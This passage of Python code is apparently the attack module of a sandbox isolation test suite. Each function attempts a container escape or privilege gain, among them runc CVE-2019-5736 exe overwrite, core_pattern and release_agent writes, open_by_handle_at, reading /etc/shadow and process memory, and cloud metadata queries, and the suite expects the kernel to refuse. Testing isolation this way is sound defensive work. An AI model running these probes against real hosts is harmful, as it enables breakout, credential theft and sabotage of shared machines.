"""What a hostile program tries from inside a session. Runs there, with the standard library alone.

Each attack returns in words what it gained, or nothing. Refusals (OSError) are what we want. Its
docstring says what an attacker would have of it. A bomb is an attack that takes its whole session
with it if the limits hold, so each has a session of its own.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

FACTS: dict[str, Any] = {}
"""What the test on the host prepared: see ``test_isolation``."""
ATTACKS: dict[str, Callable[[], str | None]] = {}
BOMBS: dict[str, Callable[[], str | None]] = {}
WIRED: dict[str, Callable[[], str | None]] = {}
"""Of a session that has a network: see ``test_network_attacks``."""
NEEDS: dict[str, str] = {}
"""Attack or bomb → the limit that holds it (``RuntimeFacts``), where not every machine has it."""
PROMISES: dict[str, str] = {"see_its_place_among_control_groups": "own place"}
"""Attack → the promise (``offers.LACKS``) that holds it, where not every runtime makes it."""
OF_GUEST: dict[str, tuple[str, str]] = {
    "read_the_init": (
        r"\['environ', 'maps', 'auxv', 'host:\[\d+\]', 'user:\[\d+\]'\]",
        "process 1 is no copy of the launcher",
    ),
    "run_setuid_programs": (
        r"mounts with setuid: .*",
        "gVisor tells of no mount flags; no_new_privs holds, and on the machine the flags do",
    ),
    "make_a_setuid_program": (
        r"setuid works in /work",
        "gVisor tells of no mount flags; no_new_privs holds, and on the machine the flags do",
    ),
    "find_devices": (r"\{'(net|fuse)', '(net|fuse)'\}", "they are gVisor's, and take rights"),
    "raise_own_limits": (r"core files", "gVisor writes none, whatever the limit says"),
    "go_before_others": (r"nice -5", "among the session's own processes"),
    "be_spared_when_memory_is_short": (
        r"oom_score_adj -900",
        "gVisor keeps the number; the machine goes by that of its kernel",
    ),
}
"""Attack → what it gains of gVisor's kernel, and why that is nothing of the machine."""
_ITS_OWN = "the root is the session's own copy, on its own disk; the image stays as it is"
OF_FAKE_ROOT: dict[str, tuple[str, str]] = {
    "write_outside_of_the_scratch_space": (r"\['/', .*\]", _ITS_OWN),
    "write_to_the_image_and_system": (r"/usr/x, /bin/x, /etc/x, .*", _ITS_OWN),
    "use_capabilities": (
        r"\{'CapInh': '0{16}', 'CapPrm': '0{15}2', 'CapEff': '0{15}2', 'CapBnd': '0{15}2', .*\}",
        "CAP_DAC_OVERRIDE, over files of the session's own user alone",
    ),
    "become_another_user": (r"setuid\(1\)", "the filter says so; nothing was done"),
}
"""Attack → what it gains with a fake root, and why that is nothing of the machine."""
LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {
        "add_key": 248, "bpf": 321, "clone": 56, "delete_module": 176, "fanotify_init": 300,
        "init_module": 175, "ioperm": 173, "kexec_load": 246, "keyctl": 250, "mount": 165,
        "name_to_handle_at": 303, "open_by_handle_at": 304, "perf_event_open": 298,
        "pivot_root": 155, "process_vm_readv": 310, "ptrace": 101, "quotactl": 179,
        "reboot": 169, "request_key": 249, "setns": 308, "swapon": 167, "umount2": 166,
        "unshare": 272, "userfaultfd": 323, "acct": 163, "syslog": 103, "adjtimex": 159,
        "ioprio_set": 251, "kcmp": 312, "process_vm_writev": 311, "setxattr": 188, "mq_open": 240,
        "memfd_create": 319, "mmap": 9, "shmget": 29, "mq_timedsend": 242,
    },
    "aarch64": {
        "add_key": 217, "bpf": 280, "clone": 220, "delete_module": 106, "fanotify_init": 262,
        "init_module": 105, "kexec_load": 104, "keyctl": 219, "mount": 40,
        "name_to_handle_at": 264, "open_by_handle_at": 265, "perf_event_open": 241,
        "pivot_root": 41, "process_vm_readv": 270, "ptrace": 117, "quotactl": 60,
        "reboot": 142, "request_key": 218, "setns": 268, "swapon": 224, "umount2": 39,
        "unshare": 97, "userfaultfd": 282, "acct": 89, "syslog": 116, "adjtimex": 171,
        "ioprio_set": 30, "kcmp": 272, "process_vm_writev": 271, "setxattr": 5, "mq_open": 180,
        "memfd_create": 279, "mmap": 222, "shmget": 194, "mq_timedsend": 182,
    },
}[os.uname().machine]  # fmt: skip
COMMON = {
    "clone3": 435, "fsopen": 430, "io_uring_setup": 425, "mount_setattr": 442, "move_mount": 429,
    "open_tree": 428, "pidfd_getfd": 438, "pidfd_open": 434,
}  # fmt: skip
WRITABLE = ("/work", "/outputs", "/home/user", "/tmp", "/var/tmp", "/dev/shm")


Attack = Callable[[], str | None]


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def bomb(function: Attack) -> Attack:
    BOMBS[function.__name__] = function
    return function


def wired(function: Attack) -> Attack:
    WIRED[function.__name__] = function
    return function


def needs(limit: str) -> Callable[[Attack], Attack]:
    def mark(function: Attack) -> Attack:
        NEEDS[function.__name__] = limit
        return function

    return mark


def call(name: str, *arguments: object) -> int:
    """A raw system call; raises OSError. A missing number is as good as a refusal."""
    number = NUMBERS.get(name, COMMON.get(name))
    if number is None:
        raise OSError(errno.ENOSYS, name)
    ctypes.set_errno(0)
    result = int(LIBC.syscall(number, *arguments))
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return result


def succeeded(names: str, *arguments: object) -> str | None:
    """Which of these calls were not refused; other errors mean that the call was let in."""
    through = []
    for name in names.split():
        try:
            call(name, *arguments)
        except OSError as exc:
            if exc.errno in {errno.EPERM, errno.ENOSYS}:
                continue
        through.append(name)
    return ", ".join(through) or None


def opens(paths: Iterator[str] | tuple[str, ...], flags: int) -> str | None:
    found = []
    for path in paths:
        with contextlib.suppress(OSError):
            os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))
            found.append(path)
    return ", ".join(found[:8]) or None


def connects(family: int, address: Any) -> bool:
    with contextlib.suppress(OSError), socket.socket(family) as sock:
        sock.settimeout(2)
        sock.connect(address)
        return True
    return False


def files_below(top: str) -> Iterator[str]:
    for folder, _, names in os.walk(top):
        yield from (f"{folder}/{name}" for name in names)


def is_null(path: str) -> bool:
    """Masked: the null device lies over it."""
    info = os.stat(path)
    return stat.S_ISCHR(info.st_mode) and info.st_rdev == os.makedev(1, 3)


# -- other processes -----------------------------------------------------------------------------


@attack
def see_processes_of_others() -> str | None:
    """Command lines, with their secrets, of everyone on the machine."""
    pids = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    strangers = []
    for pid in pids:
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            command = file.read()
            if pid != 1 and b"attacks" not in command:
                strangers.append(command.decode(errors="replace"))
    return str(strangers) if strangers or len(pids) > 20 else None


@attack
def read_the_platform_s_command_line() -> str | None:
    """Its settings, perhaps with the password of its database."""
    with open("/proc/1/cmdline", "rb") as file:
        command = file.read().replace(b"\0", b" ").decode(errors="replace").strip()
    return command if command != FACTS.get("init", "madang-init") else None


@attack
def signal_a_process_of_the_host() -> str | None:
    """End anything on the machine."""
    os.kill(FACTS["host_pid"], 0)
    return "the signal was delivered"


@attack
def read_memory_of_a_host_process() -> str | None:
    """Keys and passwords out of other people's programs."""
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    call("process_vm_readv", FACTS["host_pid"], local, 1, local, 1, 0)
    return "read"


@attack
def open_a_host_process() -> str | None:
    """A handle on a process elsewhere, and from it its files."""
    fd = call("pidfd_open", FACTS["host_pid"], 0)
    return f"descriptor {fd}"


@attack
def trace_the_init() -> str | None:
    """The init is a copy of the launcher, which has handled other sessions."""
    call("ptrace", 16, 1, 0, 0)
    return "attached"


@attack
def read_the_init() -> str | None:
    """Memory, environment and open files of the launcher's copy."""
    names = ("mem", "environ", "maps", "auxv", "stack", "syscall", "io")
    found = []
    for name in names:
        with contextlib.suppress(OSError), open(f"/proc/1/{name}", "rb") as file:
            if file.read(64):
                found.append(name)
    for name in ("root", "cwd", "exe", "fd/0", "ns/mnt", "ns/user"):
        with contextlib.suppress(OSError):
            found.append(os.readlink(f"/proc/1/{name}"))
    return str(found) if found else None


@attack
def steal_a_descriptor_of_the_init() -> str | None:
    """Its socket to the keeper outside."""
    pidfd = os.pidfd_open(1)
    return str([call("pidfd_getfd", pidfd, number, 0) for number in range(3, 12)])


@attack
def end_the_init() -> str | None:
    """A session that can't be looked after any more."""
    os.kill(1, signal.SIGKILL)
    os.kill(1, signal.SIGSTOP)
    time.sleep(0.05)
    os.kill(1, 0)
    return None  # We still run, so it does.


@attack
def leave_by_the_root_of_a_process() -> str | None:
    """The host's files, by ``/proc/PID/root``, ``cwd`` and ``fd`` of whoever has them."""
    own, found = os.stat("/"), []
    for pid in (*filter(str.isdecimal, os.listdir("/proc")), str(FACTS["host_pid"]), "self"):
        for name in ("root", "cwd", "root/..", "cwd/../../../../.."):
            with contextlib.suppress(OSError):
                info = os.stat(f"/proc/{pid}/{name}/etc")
                if (info.st_dev, info.st_ino) != (os.stat("/etc").st_dev, os.stat("/etc").st_ino):
                    found.append(f"{pid}/{name}")
        with contextlib.suppress(OSError):
            found += [
                f"{pid}/fd/{fd}"
                for fd in os.listdir(f"/proc/{pid}/fd")
                if stat.S_ISDIR(os.stat(f"/proc/{pid}/fd/{fd}").st_mode)
                and os.stat(f"/proc/{pid}/fd/{fd}").st_dev != own.st_dev
                and os.stat(f"/proc/{pid}/fd/{fd}").st_dev != os.stat("/proc").st_dev
            ]
    return str(found) if found else None


@attack
def overwrite_the_program_that_started_us() -> str | None:
    """Root's next start of it runs our code (CVE-2019-5736: ``/proc/self/exe`` of runc)."""
    found = []
    for pid in ("1", "self", str(os.getppid())):
        with contextlib.suppress(OSError):
            handle = os.open(f"/proc/{pid}/exe", os.O_PATH)
            for path in (f"/proc/{pid}/exe", f"/proc/self/fd/{handle}"):
                with contextlib.suppress(OSError):
                    os.close(os.open(path, os.O_WRONLY))
                    found.append(path)
    return str(found) if found else None


@attack
def write_the_memory_of_a_setuid_program() -> str | None:
    """Our code runs as root: a program that we started may be ours to write."""
    for program in ("/bin/su", "/usr/bin/su", "/usr/bin/passwd", "/usr/bin/newgrp"):
        with contextlib.suppress(FileNotFoundError):
            child = subprocess.Popen(
                [program], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
            )
            try:
                with open(f"/proc/{child.pid}/status", encoding="ascii") as file:
                    uids = next(line.split()[1:] for line in file if line.startswith("Uid:"))
                if set(uids) != {str(os.getuid())}:
                    return f"{program} runs as {uids}"
            finally:
                child.kill()
                child.communicate()
    return None


@attack
def change_processes_of_the_host() -> str | None:
    """Limits, memory and priority of anything that runs as the same number elsewhere."""
    pid, found = FACTS["host_pid"], []
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    tries: dict[str, Callable[[], object]] = {
        "memory": lambda: call("process_vm_writev", pid, local, 1, local, 1, 0),
        "ptrace": lambda: call("ptrace", 0x4206, pid, 0, 0),
        "limits": lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1)),
        "nice": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        "scheduler": lambda: os.sched_setaffinity(pid, {0}),
        "group": lambda: os.killpg(pid, 0),
        "stop": lambda: os.kill(pid, signal.SIGSTOP),
    }
    for name, action in tries.items():
        with contextlib.suppress(OSError):
            action()
            found.append(name)
    return str(found) if found else None


@attack
def compare_with_the_init() -> str | None:
    """Order of kernel addresses, and which of its descriptors are the host's."""
    return f"{call('kcmp', os.getpid(), 1, 1, 0, 0)}"


@attack
def leave_a_daemon_behind() -> str | None:
    """Computes on, free of charge, after the session has ended (the test looks for it)."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            signal.alarm(0)
            for fd in (*FACTS["own_fds"], 0, 1, 2):
                os.close(fd)
            time.sleep(1000)
        os._exit(0)
    os.wait()
    return None


@attack
def use_leaked_descriptors() -> str | None:
    """A folder or socket of the host, left open by whoever started us."""
    here = os.open("/proc/self/fd", os.O_RDONLY)
    found = {}
    for name in os.listdir(here):
        if int(name) > 2 and int(name) != here:
            with contextlib.suppress(OSError):
                found[name] = os.readlink(f"/proc/self/fd/{name}")
    allowed = {str(fd) for fd in FACTS["own_fds"]}
    return str(found) if found.keys() - allowed else None


# -- privileges ----------------------------------------------------------------------------------


def status() -> dict[str, str]:
    with open("/proc/self/status", encoding="ascii") as file:
        pairs = (line.partition(":") for line in file)
        return {key: value.strip() for key, _, value in pairs}


@attack
def use_capabilities() -> str | None:
    """Parts of root's power."""
    found = {key: value for key, value in status().items() if key.startswith("Cap")}
    return str(found) if any(int(value, 16) for value in found.values()) else None


@attack
def gain_by_executing() -> str | None:
    """no_new_privs off or no filter: any hole in a setuid program makes root."""
    found = status()
    closed = LIBC.prctl(39, 0, 0, 0, 0)  # PR_GET_NO_NEW_PRIVS
    return None if (closed, found["Seccomp"]) == (1, "2") else str(found)


@attack
def become_another_user() -> str | None:
    """Files and processes of another session, or root."""
    for uid in {0, os.getuid() + 1, abs(os.getuid() - 1)} - {os.getuid()}:
        for change in (os.setuid, os.setgid, os.seteuid):
            with contextlib.suppress(OSError):
                change(uid)
                return f"{change.__name__}({uid})"
    os.setgroups([0])
    return "setgroups"


@attack
def be_in_groups() -> str | None:
    """Groups like docker or disk are as good as root."""
    others = set(os.getgroups()) - {os.getgid(), 65534}
    return str(others) if others else None


@attack
def run_setuid_programs() -> str | None:
    """su, sudo, mount and friends, with a hole or a leaked password."""
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        mounts = [line.split()[4:6] for line in file]
    suid = [path for path, flags in mounts if "nosuid" not in flags and not is_null(path)]
    for program in ("su", "sudo", "newgrp", "pkexec") if os.getuid() else ():
        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
            done = subprocess.run(
                [program, "root", "-c", "id -u"],
                capture_output=True,
                input=b"\n",
                timeout=3,
                check=False,
            )
            if done.stdout.strip() == b"0":
                return program
    return f"mounts with setuid: {suid}" if suid else None


@attack
def make_a_setuid_program() -> str | None:
    """Run as whoever starts it."""
    with open("/bin/true", "rb") as source, open("/work/mine", "wb") as target:
        target.write(source.read())
    os.chmod("/work/mine", 0o6755)  # noqa: S103 (that is the attack)
    return None if os.statvfs("/work").f_flag & os.ST_NOSUID else "setuid works in /work"


@attack
def make_namespaces() -> str | None:
    """Root in a namespace of one's own reaches kernel code that only root should."""
    flags = (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x4000000, 0x8000000, 0x2000000, 0x80)
    found = []
    for flag in flags:
        for name in ("unshare", "clone"):
            if name == "clone" and flag == 0x80:
                continue
            with contextlib.suppress(OSError):
                if (
                    call(name, flag | (17 if name == "clone" else 0), 0, 0, 0, 0) == 0
                    and name == "clone"
                ):
                    os._exit(0)
                found.append(f"{name} {flag:#x}")
    return ", ".join(found) or succeeded("clone3", 0, 0)


@attack
def enter_namespaces() -> str | None:
    """The init's user namespace, as root of it."""
    found = []
    for pid in (1, os.getpid()):
        for name in ("user", "mnt", "net", "pid"):
            with contextlib.suppress(OSError):
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
                call("setns", fd, 0)
                found.append(f"{pid} {name}")
    return ", ".join(found) or None


@attack
def reach_kernel_interfaces() -> str | None:
    """Large, rarely used parts of the kernel, where the holes are."""
    return succeeded(
        "bpf perf_event_open userfaultfd io_uring_setup kexec_load init_module delete_module "
        "keyctl add_key request_key fanotify_init quotactl swapon acct reboot ioperm",
        0, 0, 0, 0, 0,
    )  # fmt: skip


@attack
def read_the_kernel_log() -> str | None:
    """Addresses and other users' business."""
    return succeeded("syslog", 3, ctypes.create_string_buffer(64), 64) or opens(
        ("/dev/kmsg",), os.O_RDONLY
    )


@attack
def find_kernel_addresses() -> str | None:
    """Half of every kernel exploit."""
    with open("/proc/kallsyms", encoding="ascii") as file:
        lines = [file.readline() for _ in range(50)]
    return next((line for line in lines if line and int(line.split()[0], 16)), None)


@attack
def stall_the_kernel_by_page_faults() -> str | None:
    """A fault handler of our own makes every race in the kernel winnable (userfaultfd)."""
    return succeeded("userfaultfd", 1 | os.O_CLOEXEC)


@attack
def pass_the_filter_by_io_uring() -> str | None:
    """Opens and connects that no filter of system calls sees."""
    return succeeded("io_uring_setup", 4, ctypes.create_string_buffer(120))


@attack
def load_a_program_into_the_kernel() -> str | None:
    """BPF: read the kernel, watch everyone."""
    attributes = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1), 128)
    return succeeded("bpf", 0, attributes, 128)


@attack
def count_events_of_the_processor() -> str | None:
    """Side channels made exact, and a part of the kernel with a bad record."""
    attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0), 112)
    return succeeded("perf_event_open", attributes, 0, -1, -1, 0)


@attack
def read_key_rings() -> str | None:
    """Kerberos tickets and disk keys: key rings are not separated by namespaces."""
    return succeeded("keyctl add_key request_key", 0, -3, 1, 0, 0) or opens(
        tuple(p for p in ("/proc/keys",) if os.path.exists(p) and not is_null(p)), os.O_RDONLY
    )


@attack
def give_a_file_capabilities() -> str | None:
    """A program of ours that starts with root's powers."""
    with open("/work/able", "wb") as file:
        file.write(b"x")
    value = struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0)
    call("setxattr", b"/work/able", b"security.capability", value, len(value), 0)
    return "set"


@attack
def come_before_others_at_the_disk() -> str | None:
    """Everyone else's reads wait for ours."""
    call("ioprio_set", 1, 0, 1 << 13)
    return "real-time class"


@attack
def change_the_clock_s_speed() -> str | None:
    """Certificates that expire, logs that lie, slowly."""
    found = []
    for modes in (0x1, 0x2, 0x4000, 0x8000):
        with contextlib.suppress(OSError):
            call("adjtimex", ctypes.create_string_buffer(struct.pack("I", modes), 256))
            found.append(hex(modes))
    with contextlib.suppress(OSError), open("/proc/1/timerslack_ns", "w", encoding="ascii") as file:
        file.write("1000000000")
        file.flush()
        found.append("timers of the init")
    return str(found) if found else None


@attack
def run_32_bit_calls() -> str | None:
    """Calls by other numbers, which a filter may have forgotten."""
    if os.uname().machine != "x86_64":
        return None
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return f"getpid said {pid}" if pid > 0 else None


@attack
def change_the_personality() -> str | None:
    """Executable data, no address randomisation for later programs."""
    for value in (0x0400000, 0x0100000):
        if LIBC.personality(value) != -1:
            return hex(value)
    return None


# -- files ---------------------------------------------------------------------------------------


@attack
def read_host_files() -> str | None:
    """Other users' homes, temporary files, the platform's own state with its tokens."""
    found = opens(tuple(FACTS["host_files"]), os.O_RDONLY)
    homes = set()
    for top in ("/root", "/home", "/srv", "/mnt", "/run"):
        with contextlib.suppress(OSError):
            homes |= set(os.listdir(top))
    return found or (str(homes) if homes - {"user"} else None)


@attack
def read_password_hashes() -> str | None:
    """Everyone's passwords, by patience."""
    return opens(("/etc/shadow", "/etc/gshadow", "/etc/sudoers"), os.O_RDONLY)


@attack
def write_outside_of_the_scratch_space() -> str | None:
    """A changed library or profile, executed by the next one."""
    found, depth = [], FACTS.get("depth", 3)
    for folder, names, _ in os.walk("/"):
        if folder.startswith("/proc") or folder in WRITABLE or folder.count("/") > depth:
            names.clear()
            continue
        with contextlib.suppress(OSError):
            os.mkdir(f"{folder}/mine")
            found.append(folder)
    return str(found) if found else None


@attack
def write_to_the_image_and_system() -> str | None:
    """Everyone's programs."""
    targets = ("/usr/x", "/bin/x", "/etc/x", "/env/x", "/madang/run/x", "/madang/bin/x", "/x")
    return opens(targets, os.O_CREAT | os.O_WRONLY)


@attack
def mount_something() -> str | None:
    """Uncover what is masked; make read-only writable."""
    root = b"/"
    return succeeded(
        "mount umount2 pivot_root fsopen open_tree move_mount mount_setattr", root, root, 0, 0, 0
    )


@attack
def leave_by_chroot() -> str | None:
    """The classic way out of a changed root."""
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    return "chroot"


@attack
def open_files_by_handle() -> str | None:
    """Any file of the file system that the root lies on ("shocker")."""
    return succeeded("open_by_handle_at name_to_handle_at", 3, 0, 0, 0, 0)


@attack
def make_device_nodes() -> str | None:
    """The machine's disk."""
    for path in ("/work/disk", "/tmp/disk", "/dev/shm/disk"):
        with contextlib.suppress(OSError):
            os.mknod(path, 0o666 | stat.S_IFBLK, os.makedev(254, 0))
            os.close(os.open(path, os.O_RDONLY))
            return path
    return None


@attack
def find_devices() -> str | None:
    """Disks, memory, consoles, virtual machines."""
    allowed = "null zero full random urandom tty ptmx pts shm fd stdin stdout stderr".split()
    return str(found) if (found := set(os.listdir("/dev")) - set(allowed)) else None


@attack
def write_kernel_settings() -> str | None:
    """core_pattern runs a program as root."""
    return opens(files_below("/proc/sys"), os.O_WRONLY)


@attack
def write_elsewhere_in_proc() -> str | None:
    """sysrq-trigger crashes the machine; irq and bus change it."""
    names = ("sysrq-trigger", "mtrr", "irq/default_smp_affinity", "bus/pci/devices", "acpi/wakeup")
    paths = tuple(f"/proc/{name}" for name in names if os.path.exists(f"/proc/{name}"))
    return opens(tuple(path for path in paths if not is_null(path)), os.O_WRONLY)


@attack
def read_kernel_memory() -> str | None:
    """Everything."""
    names = ("kcore", "kmem", "vmcore", "kpagecount", "kpageflags", "keys")
    paths = tuple(f"/proc/{name}" for name in names if os.path.exists(f"/proc/{name}"))
    paths += ("/dev/mem", "/dev/kmem", "/dev/port")
    return opens(tuple(p for p in paths if not (os.path.exists(p) and is_null(p))), os.O_RDONLY)


@attack
def look_around_in_sys() -> str | None:
    """Hardware, other control groups, debug and tracing interfaces."""
    found = set(os.listdir("/sys")) | {f"fs/{name}" for name in os.listdir("/sys/fs")}
    return str(found) if found - {"devices", "fs", "fs/cgroup"} else None


@attack
def set_the_core_pattern() -> str | None:
    """A program of ours that the kernel runs as root on the host at the next crash."""
    return opens(("/proc/sys/kernel/core_pattern",), os.O_WRONLY)


@attack
def set_the_kernel_s_helpers() -> str | None:
    """Programs that the kernel runs as root: module loader, hotplug, interpreters, power-off."""
    names = ("modprobe", "hotplug", "poweroff_cmd", "usermodehelper/bset")
    paths = tuple(f"/proc/sys/kernel/{name}" for name in names)
    paths += ("/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register")
    return opens(paths, os.O_WRONLY)


@attack
def press_magic_keys() -> str | None:
    """Crash or restart the machine (sysrq)."""
    paths = ("/proc/sysrq-trigger", "/proc/self/../sysrq-trigger", "/proc/sys/kernel/sysrq")
    return opens(tuple(p for p in paths if os.path.exists(p) and not is_null(p)), os.O_WRONLY)


@attack
def set_a_release_agent() -> str | None:
    """A program of ours that the kernel runs as root when a control group empties."""
    paths = [p for p in files_below("/sys/fs/cgroup") if "release" in p or "event_control" in p]
    return opens((*paths, "/sys/fs/cgroup/release_agent"), os.O_WRONLY)


@attack
def uncover_what_is_masked() -> str | None:
    """Kernel memory and settings under the mounts that hide them."""
    found = []
    for path in ("/proc/kcore", "/proc/sys", "/proc/sysrq-trigger", "/sys", "/etc/passwd"):
        if LIBC.umount2(path.encode(), 2) == 0:
            found.append(f"umount {path}")
        if LIBC.mount(None, path.encode(), None, 32 | 4096, None) == 0:
            found.append(f"remount {path}")
    return str(found) if found else None


@attack
def replace_the_mount_points() -> str | None:
    """The next program that the platform starts, or copies for us, works where we say."""
    found = []
    for path in (*WRITABLE, "/madang/run", "/proc", "/etc/passwd"):
        for change in (os.rmdir, os.unlink, lambda p: os.rename(p, p + "-old")):
            with contextlib.suppress(OSError):
                change(path)
                found.append(path)
    return str(found) if found else None


@attack
def leave_a_mount_by_renaming() -> str | None:
    """A folder that is moved out of a bind mount has the host's folders above it."""
    os.makedirs("/work/up/down", exist_ok=True)
    inside = os.open("/work/up/down", os.O_RDONLY)
    for target in ("/tmp/down", "/home/user/down", "/outputs/down", "/dev/shm/down"):
        with contextlib.suppress(OSError):
            os.rename("/work/up/down", target)
            return f"renamed to {target}"
    at = inside
    for _ in range(40):
        at = os.open("..", os.O_RDONLY, dir_fd=at)
    here, root = os.fstat(at), os.stat("/")
    same = (here.st_dev, here.st_ino) == (root.st_dev, root.st_ino)
    return None if same else f"above the root: {os.listdir(at)}"


@attack
def follow_a_link_while_it_changes() -> str | None:
    """A check of one path, a use of another: files of the host by a link that flips."""
    secret, found = FACTS["host_files"][0], None
    flipper = os.fork()
    if flipper == 0:
        signal.alarm(3)
        while True:
            for target in ("/etc/hostname", f"/proc/1/root{secret}", secret):
                with contextlib.suppress(OSError):
                    os.symlink(target, "/tmp/flip-new")
                    os.rename("/tmp/flip-new", "/tmp/flip")
    late = time.monotonic() + 0.3
    while found is None and time.monotonic() < late:
        with contextlib.suppress(OSError), open("/tmp/flip", encoding="utf-8") as file:
            found = "the host's file" if file.read() == "host" else None
    os.kill(flipper, signal.SIGKILL)
    os.wait()
    return found


@attack
def link_files_of_the_host() -> str | None:
    """An old setuid program kept, with its hole; a file that root will change for us."""
    found = []
    for source in ("/etc/passwd", "/etc/shadow", "/bin/su", "/usr/bin/su", "/usr/bin/env"):
        for folder in WRITABLE:
            with contextlib.suppress(OSError):
                os.link(source, f"{folder}/linked")
                found.append(f"{source} in {folder}")
    return str(found) if found else None


@attack
def open_a_file_by_its_number() -> str | None:
    """Any file of the file system that /work lies on, those of the platform among them."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0), 128)
    folder = os.open("/work", os.O_RDONLY)
    return succeeded("open_by_handle_at", folder, handle, os.O_RDONLY)


@attack
def read_the_platform_s_state() -> str | None:
    """The database, the administrator's token, the journal: rule over everything."""
    return opens(tuple(FACTS["platform_files"]), os.O_RDONLY)


@attack
def read_another_session() -> str | None:
    """Other people's files, output and settings."""
    found = [path for path in FACTS["victim_files"] if os.path.exists(path)]
    found += [f"names of {top}" for top in FACTS["victim_files"] if os.path.isdir(top)]
    return str(found) if found else None


@attack
def write_to_sys() -> str | None:
    """Hardware, power, other people's devices."""
    return opens(files_below("/sys"), os.O_WRONLY)


@attack
def find_secrets_in_what_is_mounted() -> str | None:
    """Names and folders of other sessions, out of the list of mounts."""
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        lines = [line.rstrip() for line in file if FACTS["victim"] in line]
    return str(lines) if lines else None


# -- network and messages ------------------------------------------------------------------------


@attack
def reach_the_host_by_loopback() -> str | None:
    """Databases and the platform's own port, which trust the machine's users."""
    with socket.create_connection(("127.0.0.1", FACTS["host_port"]), 2):
        return "connected"


@attack
def reach_the_outside() -> str | None:
    """Send data out, attack others from here."""
    if (names := {name for _, name in socket.if_nameindex()}) != {"lo"}:
        return str(names)
    with socket.create_connection(("192.0.2.1", 80), 2):
        return "connected"


@attack
def reach_abstract_sockets() -> str | None:
    """D-Bus, X11 and others listen on names that no folder protects."""
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(b"\0" + FACTS["abstract_name"].encode())
        return "connected"


@attack
def find_sockets_in_folders() -> str | None:
    """docker.sock is root."""
    found = []
    for folder, names, files in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/usr")):
            names.clear()
        with contextlib.suppress(OSError):
            found += [f for f in files if stat.S_ISSOCK(os.lstat(f"{folder}/{f}").st_mode)]
    return str(found) if found else None


@attack
def open_strange_sockets() -> str | None:
    """Read the wire, reach the hypervisor, use old protocols with old holes."""
    kinds = [(17, 3, 0x300), (40, 1, 0), (38, 5, 0), (2, 3, 255), (10, 3, 58), (29, 3, 1)]
    kinds += [(2, 1, 132), (2, 5, 132), (21, 5, 0), (16, 3, 9), (31, 3, 1), (43, 1, 0), (44, 3, 0)]
    found = []
    for family, kind, protocol in kinds:
        with contextlib.suppress(OSError):
            socket.socket(family, kind, protocol).close()
            found.append((family, kind, protocol))
    return str(found) if found else None


@attack
def change_the_network() -> str | None:
    """An address of somebody else's."""
    with socket.socket() as sock:
        fcntl.ioctl(sock, 0x8914, struct.pack("16sH14x", b"lo", 0))  # SIOCSIFFLAGS: down
        return "lo is down"


@attack
def find_shared_memory() -> str | None:
    """Data of other programs, and a way to talk to another session."""
    LIBC.shmget.restype = ctypes.c_int
    if LIBC.shmget(FACTS["shm_key"], 0, 0) != -1:
        return "System V segment of the host"
    others = [name for name in os.listdir("/dev/shm") if name == FACTS["shm_name"]]
    return str(others) if others else None


@attack
def type_into_a_terminal() -> str | None:
    """Commands as the administrator who looks at the session."""
    master, slave = os.openpty()
    for request in (0x5412, 0x541C):
        with contextlib.suppress(OSError):
            fcntl.ioctl(slave, request, b"x")
            return hex(request)
    os.close(master)
    return None


@attack
def find_other_terminals() -> str | None:
    """What others type."""
    found = set(os.listdir("/dev/pts")) - {"ptmx"}
    return str(found) if found else None


@attack
def talk_to_the_launcher() -> str | None:
    """Root's own helper: start sessions as anybody, remove those of others."""
    found = [path for path in FACTS["sockets"] if connects(socket.AF_UNIX, path)]
    return str(found) if found else None


@attack
def ask_the_metadata_service() -> str | None:
    """The machine's own keys to the cloud that it runs in."""
    places: list[tuple[int, Any]] = [
        (socket.AF_INET, ("169.254.169.254", 80)),
        (socket.AF_INET, ("169.254.170.2", 80)),
        (socket.AF_INET6, ("fd00:ec2::254", 80, 0, 0)),
    ]
    found = [address[0] for family, address in places if connects(family, address)]
    return str(found) if found else None


@attack
def find_the_host_s_addresses() -> str | None:
    """Neighbours to attack, and proof of where we run."""
    with open("/proc/net/route", encoding="ascii") as file:
        routes = file.read().splitlines()[1:]
    with open("/proc/net/tcp", encoding="ascii") as file:
        ports = [line for line in file if f":{FACTS['host_port']:04X} " in line]
    return f"{routes} {ports}" if routes or ports else None


@attack
def read_the_wire() -> str | None:
